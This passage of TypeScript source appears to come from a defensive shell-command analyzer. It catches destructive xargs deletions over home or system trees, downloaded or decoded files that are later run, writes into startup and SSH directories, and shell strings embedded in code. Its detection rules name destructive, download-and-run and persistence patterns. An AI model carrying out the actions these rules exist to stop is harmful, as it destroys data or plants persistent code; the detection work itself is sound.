    const slot = replace !== undefined && replace !== '' ? new RegExp(replace.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'), 'g') : /\{\d*(?:\.|\/|\/\/|\/\.)?\}/g;
    const hasSlot = slot.test(template);
    let quoted = values.map((v) => `'${v.replace(/'/g, `'\\''`)}'`);
    if (unknown) quoted.push('"$PARALLEL_INPUT"');
    // Inside a nested command string, one run with every value (bounds the work: see xargsArgs).
    if (this.depth > 0 && quoted.length > 1) quoted = [quoted.join(' ')];
    for (const q of quoted) this.nested(hasSlot ? template.replace(slot, () => q) : `${template} ${q}`, cmd, 'parallel runs a command');
  }

  private viaXargs(inv: Invocation, upstream: readonly Command[]): void {
    if (!/^(?:rm|shred|unlink|chmod|chown)$/.test(inv.name)) return;
    for (const u of upstream) {
      const uinv = unwrap(u.argv, u);
      if (!uinv || !/^(?:find|ls|locate|fd|echo|printf|cat)$/.test(uinv.name)) continue;
      const roots = uinv.name === 'find' ? uinv.args.slice(0, Math.max(0, uinv.args.findIndex((a) => /^[-(!]/.test(a.text)))) : positionals(uinv.args);
      if (roots.some((r) => isCriticalTree(normalizePath(r.text, this.opts.home)))) {
        this.add('destructive', 'deny', `xargs ${inv.name} runs over files of the home directory, the root or a system tree`, inv.cmd);
        return;
      }
    }
  }

  /** Remembers files a downloader (or a decoder) writes, so that running them later in the same line is caught. */
  private downloads(inv: Invocation): void {
    const { name, args, cmd } = inv;
    if (isDecoder(inv) || (cmd.pipe && this.upstreamKind(this.pipeUpstream.get(cmd) ?? []) === 'decode')) {
      for (const r of cmd.redirects) if (isWriteOp(r.op) && r.target && !/^\d+$/.test(r.target.text)) this.decoded.add(normalizePath(r.target.text, this.opts.home));
      if (name === 'tee') for (const p of positionals(args)) this.decoded.add(normalizePath(p.text, this.opts.home));
      for (const o of optValues(args, ['-o', '-out', '--output'])) this.decoded.add(normalizePath(o.text, this.opts.home));
    }
    if (!DOWNLOADERS.has(name) || this.isLocalOnly(inv)) return;
    const out: string[] = [];
    if (name === 'curl') {
      out.push(...optValues(args, ['-o', '--output']).map((w) => w.text));
      if (args.some((a) => a.text === '-O' || a.text === '--remote-name' || /^-[a-zA-Z]*O[a-zA-Z]*$/.test(a.text))) {
        for (const p of positionals(args, CURL_VALUE_OPTS)) if (looksLikeUrl(p.text)) out.push(basename(new URL(p.text).pathname) || 'index.html');
      }
    } else if (name === 'wget') {
      const o = optValues(args, ['-O', '--output-document']).map((w) => w.text);
      out.push(...o);
      if (o.length === 0) for (const p of positionals(args, WGET_VALUE_OPTS)) if (looksLikeUrl(p.text)) out.push(basename(safePath(p.text)) || 'index.html');
    } else if (name === 'aria2c') out.push(...optValues(args, ['-o', '--out']).map((w) => w.text));
    else if (name === 'lwp-download') {
      const pos = positionals(args);
      if (pos[1]) out.push(pos[1].text);
      else if (pos[0] && looksLikeUrl(pos[0].text)) out.push(basename(safePath(pos[0].text)));
    }
    for (const r of cmd.redirects) if (isWriteOp(r.op) && r.target && !/^\d+$/.test(r.target.text)) out.push(r.target.text);
    for (const o of out) {
      if (o === '-' || o === '/dev/null') continue;
      const n = normalizePath(o, this.opts.home);
      this.downloaded.add(n);
      this.downloaded.add(basename(n));
      this.downloaded.add(`./${basename(n)}`.replace(/^\.\/\.\//, './'));
      if (!n.startsWith('/') && !n.startsWith('~') && !n.startsWith('.')) this.downloaded.add(normalizePath(`./${n}`));
    }
  }
}

/** The command's stdin is a file (`< file`) or command output (`<<< "$(env)"`, a heredoc with substitutions): not text the line spells out. */
function stdinFed(cmd: Command): boolean {
  return cmd.redirects.some((r) => (r.op === '<' && !!r.target && r.target.text !== '/dev/null') || (r.op === '<<<' && !!r.target && r.target.subst.length > 0) || (r.op.startsWith('<<') && r.op !== '<<<' && /\$\(|`/.test(r.text ?? '')));
}


function safePath(url: string): string {
  try {
    return new URL(url).pathname;
  } catch {
    return '';
  }
}

function isDecoder(inv: Invocation): boolean {
  const { name, args } = inv;
  if (!DECODERS.has(name)) return false;
  const all = args.map((a) => a.text);
  switch (name) {
    case 'base64':
    case 'base32':
    case 'basenc':
      return all.some((t) => /^-[a-zA-Z]*[dD]$/.test(t) || t === '--decode');
    case 'xxd':
      return all.some((t) => /^-[a-zA-Z]*r/.test(t));
    case 'openssl':
      return all.some((t) => t === '-d' || t === '-base64' || t === '-a') && all.some((t) => t === 'enc' || t === 'base64' || /^-?(?:aes|des|chacha)/.test(t));
    case 'uudecode':
    case 'zcat':
    case 'gunzip':
    case 'bunzip2':
    case 'unxz':
      return true;
    case 'gzip':
    case 'bzip2':
    case 'xz':
      return all.some((t) => /^-[a-zA-Z]*d/.test(t) || t === '--decompress');
    case 'rev':
      return true;
    case 'tr':
      return all.some((t) => /N-Z|n-z|A-Za-z.*N/.test(t));
    case 'printf':
      return all.some((t) => /\\x[0-9a-f]{2}|\\[0-7]{3}/i.test(t));
    case 'echo':
      return all.some((t) => /^-[a-zA-Z]*e/.test(t)) && all.some((t) => /\\x[0-9a-f]{2}|\\[0-7]{3}/i.test(t));
    default:
      return args.some((a) => /b64decode|decodebytes|unhexlify|decode\(['"](?:base64|hex)|unpack\(['"]m/.test(a.text));
  }
}

/** Parts of an argument that may name a file: the argument, after `@`, after `=`, around `:`. */
function pathCandidates(text: string): string[] {
  if (text.length === 0) return [];
  const out = [text];
  const at = text.indexOf('@');
  if (at >= 0 && !looksLikeUrl(text)) out.push(text.slice(at + 1));
  const eq = text.indexOf('=');
  if (eq >= 0) out.push(text.slice(eq + 1));
  if (text.includes(':') && !looksLikeUrl(text)) out.push(...text.split(':'));
  if (looksLikeUrl(text) && text.startsWith('file:')) out.push(text);
  return out;
}

/** `[user@]host:path`, `host::module`, `rsync://host/…`, `ssh://…` — the remote host, else undefined. */
function remoteHost(text: string): string | undefined {
  if (/^(?:rsync|ssh|sftp|scp|git|https?):\/\//i.test(text)) return hostOf(text);
  if (text.startsWith('/') || text.startsWith('.') || text.startsWith('~')) return undefined;
  const m = /^(?:[^@/:\s]+@)?(\[[0-9a-f:.]+\]|[a-z0-9][a-z0-9.-]*):(?!\/\/)/i.exec(text);
  if (!m) return undefined;
  return m[1]!.toLowerCase();
}

/** Files written by a command: redirect targets, `tee` files, copy destinations, `sed -i` files, … */
function writeTargets(inv: Invocation): Word[] {
  const { name, args } = inv;
  const out: Word[] = [];
  switch (name) {
    case 'tee':
      out.push(...positionals(args));
      break;
    case 'cp':
    case 'mv':
    case 'install':
    case 'ln':
    case 'rsync': {
      const t = optValues(args, ['-t', '--target-directory']);
      if (t.length > 0) out.push(...t);
      else {
        const pos = positionals(args, new Set(['-S', '--suffix', '-m', '--mode', '-o', '--owner', '-g', '--group', '-e', '--rsh', '--exclude']));
        if (pos.length >= 2) out.push(pos[pos.length - 1]!);
      }
      if (name === 'mv') out.push(...positionals(args).slice(0, -1));
      break;
    }
    case 'sed':
    case 'perl':
      if (args.some((a) => /^-[a-zA-Z]*i/.test(a.text) || a.text.startsWith('--in-place'))) out.push(...positionals(args, new Set(['-e', '-f'])).slice(optValues(args, ['-e']).length > 0 ? 0 : 1));
      break;
    case 'ed':
    case 'red':
    case 'ex':
    case 'vi':
    case 'vim':
    case 'nvim':
    case 'nano':
      // Scripted edits (`ed -s ~/.bashrc <<< …`, `ex -sc 'a|…' -cx FILE`) write the files they open.
      out.push(...positionals(args, new Set(['-c', '--cmd', '-S', '-u', '-U', '-i', '-T', '-w', '-W', '-t', '-q'])).filter((p) => !p.text.startsWith('+')));
      break;
    case 'awk':
    case 'gawk':
      // `gawk -i inplace '…' FILE` rewrites FILE.
      if (args.some((a, i) => ((a.text === '-i' || a.text === '--include') && args[i + 1]?.text === 'inplace') || a.text === '-iinplace' || a.text === '--include=inplace')) {
        const progFile = args.some((a) => a.text === '-f' || a.text.startsWith('--file'));
        out.push(...positionals(args, new Set(['-F', '-v', '-f', '-i', '--include', '--file'])).slice(progFile ? 0 : 1));
      }
      break;
    case 'truncate':
    case 'touch':
    case 'mkdir':
    case 'chmod':
    case 'chown':
      out.push(...positionals(args, new Set(['-s', '--size', '-r', '--reference', '-d', '--date', '-m', '--mode'])).slice(name === 'chmod' || name === 'chown' ? 1 : 0));
      break;
    case 'curl':
      out.push(...optValues(args, ['-o', '--output']));
      break;
    case 'wget':
      out.push(...optValues(args, ['-O', '--output-document']));
      break;
    case 'unzip':
      out.push(...optValues(args, ['-d']));
      break;
    case 'tar':
      if (args.some((a) => /^-?[a-zA-Z]*x/.test(a.text) || a.text === '--extract')) out.push(...optValues(args, ['-C', '--directory']));
      break;
    default:
      break;
  }
  return out;
}

/** Directories whose files run at log-in or grant access: the home directory itself, ~/.ssh, ~/.config/systemd, … */
const STARTUP_DIRS = /^~$|^~\/\.(?:ssh|gnupg|bashrc\.d|config|config\/(?:systemd(?:\/user)?|autostart|environment\.d|fish(?:\/conf\.d|\/functions)?|git)|local\/share\/systemd(?:\/user)?)$/i;

/** Where an archive is unpacked (`tar x -C DIR`, `unzip -d DIR`, `7z x -oDIR`) or a directory's contents copied (`rsync -a src/ DIR`, `cp -r src/. DIR`). */
function extractTarget(inv: Invocation): Word | undefined {
  const { name, args } = inv;
  if (name === 'tar' || name === 'bsdtar') {
    if (!args.some((a) => /^-?[a-zA-Z]*x/.test(a.text) || a.text === '--extract' || a.text === '--get')) return undefined;
    return optValues(args, ['-C', '--directory'])[0];
  }
  if (name === 'unzip') return optValues(args, ['-d'])[0];
  if (name === '7z' || name === '7za') return optValues(args, ['-o'])[0];
  if (name === 'rsync' || name === 'cp') {
    const pos = positionals(args, new Set(['-e', '--rsh', '--exclude', '--include', '--filter', '-f', '-t', '--target-directory']));
    if (pos.length >= 2 && pos.slice(0, -1).some((p) => /\/\.?$/.test(p.text) && p.text !== '/')) return pos[pos.length - 1];
  }
  return undefined;
}

/**
 * `cp authorized_keys ~/.ssh/`, `cp .bashrc ~`: a copy into a directory writes DIR/NAME. The last word
 * may be a file or a directory; judged as both (the file is `writeTargets`' part).
 */
function intoDirTargets(inv: Invocation): Word[] {
  if (!/^(?:cp|mv|install|ln|rsync|scp)$/.test(inv.name)) return [];
  const pos = positionals(inv.args, new Set(['-S', '--suffix', '-m', '--mode', '-o', '--owner', '-g', '--group', '-e', '--rsh', '--exclude', '-t', '--target-directory']));
  const t = optValues(inv.args, ['-t', '--target-directory'])[0];
  const dir = t ?? (pos.length >= 2 ? pos[pos.length - 1] : undefined);
  const sources = t ? pos : pos.slice(0, -1);
  if (!dir || dir.dynamic) return [];
  return sources.filter((s) => !s.dynamic && s.text !== '').map((s) => ({ ...dir, text: `${dir.text.replace(/\/+$/, '')}/${basename(s.text.replace(/\/+$/, ''))}` }));
}

/** Shell command strings inside code: `os.system("…")`, `subprocess.run("…", shell=True)`, `execSync('…')`, backticks. */
export function inlineShellStrings(code: string): string[] {
  const out: string[] = [];
  const re = /(?:os\.system|os\.popen|subprocess\.(?:run|call|Popen|check_output|check_call|getoutput|getstatusoutput)|execSync|exec|spawnSync|spawn|system|shell_exec|passthru|popen|proc_open|IO\.popen|%x|Runtime\.getRuntime\(\)\.exec)\s*\(?\s*(?:\[\s*)?(['"`])((?:\\.|(?!\1)[^\\])*)\1/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(code)) !== null && out.length < 8) out.push(m[2]!.replace(/\\(['"`\\])/g, '$1').replace(/\\n/g, '\n'));
  const bt = /`([^`]{2,})`/g;
  if (!/^\s*(?:const|let|var|import|function|console)\b/m.test(code)) {
    while ((m = bt.exec(code)) !== null && out.length < 8) if (!m[1]!.includes('${')) out.push(m[1]!);
  }
  return out;
}
